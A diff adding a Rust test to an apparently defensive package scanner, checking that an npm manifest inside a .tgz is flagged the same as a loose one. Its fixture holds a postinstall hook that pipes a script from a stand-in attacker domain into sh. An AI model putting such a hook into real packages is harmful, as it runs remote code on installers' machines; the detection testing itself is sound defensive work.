@@ -354,3 +354,48 @@ fn indicators_are_a_compact_table_filters_csv_and_json() {
         serde_json::from_str(&s.ok(&["indicators", "--format", "json", "--limit", "1"], "")).unwrap();
     assert_eq!(one.as_array().unwrap().len(), 1);
 }
+
+#[test]
+fn an_archive_is_scanned_for_the_lifecycle_scripts_its_manifest_declares() {
+    let s = Scioc::new();
+    let dir = s.dir.path().join("proj");
+    std::fs::create_dir_all(&dir).unwrap();
+    let manifest = "{\n  \"name\": \"curl-postinstall\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl -s https://cdn.evil-domain.example/p.sh | sh\"\n  }\n}\n";
+    let iocs = s.dir.path().join("npm_iocs.json");
+    std::fs::write(
+        &iocs,
+        serde_json::json!([{"ecosystem": "npm", "ioc_type": "domain", "value": "evil-domain.example", "reason": "test",
+            "confidence": "high", "source": "https://example.org/d", "first_seen": "2026-01-01", "suggested_action": "flag"}])
+        .to_string(),
+    )
+    .unwrap();
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_size(manifest.len() as u64);
+    h.set_mode(0o644);
+    h.set_cksum();
+    tar.append_data(&mut h, "package/package.json", manifest.as_bytes()).unwrap();
+    let tgz = dir.join("curl-postinstall-1.0.0.tgz");
+    std::fs::write(&tgz, crate::support::gz(&tar.into_inner().unwrap())).unwrap();
+    let loose = s.dir.path().join("loose");
+    std::fs::create_dir_all(&loose).unwrap();
+    std::fs::write(loose.join("package.json"), manifest).unwrap();
+
+    let scan = |target: &std::path::Path| {
+        let out = s.run(&["scan", "--format", "json", "--iocs", iocs.to_str().unwrap(), target.to_str().unwrap()], "");
+        (out.status.code(), serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap())
+    };
+    // The loose file and the same file packed: the same finding, located inside the archive.
+    let (code, loose_report) = scan(&loose.join("package.json"));
+    assert_eq!(code, Some(1), "{loose_report}");
+    let (code, packed) = scan(&tgz);
+    assert_eq!(code, Some(1), "the packed manifest's postinstall is scanned: {packed}");
+    let f = &packed["findings"][0];
+    assert_eq!((f["rule"].as_str(), f["package"].as_str()), (Some("AS-016"), Some("curl-postinstall")), "{packed}");
+    assert_eq!(f["evidence"], loose_report["findings"][0]["evidence"], "{packed}");
+    let file = f["file"].as_str().unwrap();
+    assert!(file.ends_with("curl-postinstall-1.0.0.tgz!/package/package.json"), "{file}");
+    assert_eq!(f["line"], 2, "the manifest's name line, not 0: {packed}");
+    // `test` is not run by an install: one finding only.
+    assert_eq!(packed["findings"].as_array().unwrap().len(), 1, "{packed}");
+}
